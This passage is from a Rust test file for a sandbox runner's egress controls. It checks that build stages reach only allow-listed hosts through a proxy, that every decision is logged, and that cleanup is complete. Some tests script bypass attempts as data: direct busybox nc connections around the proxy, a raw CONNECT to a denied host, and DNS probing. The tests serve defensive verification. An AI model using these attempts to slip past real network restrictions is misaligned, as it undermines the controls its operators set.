    let (repo, ev, log) = egress_attack("docker", Some("lightsout-no-such-network"), &["allowed.test:80"], "echo RAN");
    assert!(!log.contains("RAN"), "{log}");
    let reason = finished(&ev, "attacker")[0]["reason"].as_str().unwrap_or_default().to_owned();
    assert!(reason.contains("lightsout-no-such-network") && reason.contains("LIGHTSOUT_EGRESS_NETWORK"), "{reason}");
    let run = repo.run_ids().pop().expect("run");
    assert!(containers_of(&run).is_empty());
}

#[test]
fn more_networked_stages_at_once_than_dockers_default_pools_hold() {
    // Docker's default address pools hold about thirty networks; each stage below has its own.
    let lab = Lab::new();
    let stage = "    network: { allow: [\"allowed.test:80\"] }\n    resources: { memory: 64m }\n    run: wget -q -O- http://allowed.test/ && sleep 3\n";
    let stages: String = (0..34).map(|i| format!("  s{i}:\n")).flat_map(|head| [head, stage.to_owned()]).collect();
    let repo = Repo::with_policy(&stages, Some("version: 1\nnetwork: { allow: [\"allowed.test:80\"] }\n"));
    let mut c = repo.cmd(&["--executor", "docker", "--jobs", "34"]);
    c.env("LIGHTSOUT_EGRESS_NETWORK", &lab.net);
    let (code, out, err) = output(&mut c);
    let ev = super::support::events(&out);
    assert_eq!(code, 0, "{err}\n{:#?}", ev.iter().filter(|e| e["event"] == "stage_finished").collect::<Vec<_>>());
    assert_eq!(egress_events(&ev).iter().filter(|(_, allowed)| *allowed).count(), 34);
}

#[test]
fn egress_leaves_no_container_nor_network_behind() {
    let lab = Lab::new();
    let (repo, ev, _) = lab.attack(&["allowed.test:80"], "wget -q -O- http://allowed.test/");
    assert_eq!(outcome(&ev, "attacker"), "succeeded");
    let run = repo.run_ids().pop().expect("run");
    assert!(containers_of(&run).is_empty(), "a container outlived the run");
    let nets = Command::new("docker")
        .args(["network", "ls", "-q", "--filter", &format!("label=dev.lightsout.run={run}")])
        .output()
        .expect("docker network ls");
    assert!(nets.stdout.is_empty(), "a network outlived the run");
}

#[test]
fn local_egress_admits_the_allow_list_only_and_records_every_decision() {
    let allowed = http_server("127.0.0.1:0", "BODY-allowed");
    let other = http_server("127.0.0.1:0", "BODY-other");
    let (repo, ev, log) = egress_attack(
        "local",
        None,
        &[&format!("localhost:{allowed}")],
        &format!(
            "busybox wget -q -O- http://localhost:{allowed}/ && echo PLAIN-OK\n\
             busybox wget -q -O- http://localhost:{other}/ 2>&1; echo after-other\n\
             printf 'CONNECT localhost:{allowed} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n' | busybox nc -w 3 $PROXY 3128\n\
             printf 'CONNECT denied.invalid:443 HTTP/1.1\\r\\n\\r\\n' | busybox nc -w 3 $PROXY 3128\n\
             echo end"
        ),
    );
    assert!(log.contains("BODY-allowed") && log.contains("PLAIN-OK"), "{log}");
    assert!(log.contains("200 Connection Established") && log.contains("end"), "{log}");
    assert!(!log.contains("BODY-other") && log.contains("403 Forbidden"), "{log}");
    let decisions = egress_events(&ev);
    for expected in [
        (format!("localhost:{allowed}"), true),
        (format!("localhost:{other}"), false),
        ("denied.invalid:443".to_owned(), false),
    ] {
        assert!(decisions.contains(&expected), "{expected:?} not in {decisions:?}");
    }
    let run = repo.run_ids().pop().expect("run");
    assert_eq!(egress_events(&repo.recorded_events(&run)), decisions);
}

#[test]
fn local_egress_cannot_go_around_the_proxy() {
    let loopback = http_server("127.0.0.1:0", "BODY-loopback");
    let any = http_server("0.0.0.0:0", "BODY-any");
    let host = host_from_container();
    let (_, _, log) = egress_attack(
        "local",
        None,
        &[&format!("localhost:{loopback}")],
        &format!(
            "busybox nc -w 3 127.0.0.1 {loopback} </dev/null && echo DIRECT-LOOPBACK || echo no-direct-loopback\n\
             busybox nc -w 3 {host} {any} </dev/null && echo DIRECT-HOST || echo no-direct-host\n\
             busybox nslookup example.com 2>&1 | grep -q 'Address: [0-9]' && echo RESOLVED || echo no-dns\n\
             echo end"
        ),
    );
    for refused in ["no-direct-loopback", "no-direct-host", "no-dns", "end"] {
        assert!(log.contains(refused), "{refused}: {log}");
    }
    assert!(!log.contains("BODY-") && !log.contains("not found"), "{log}");
}
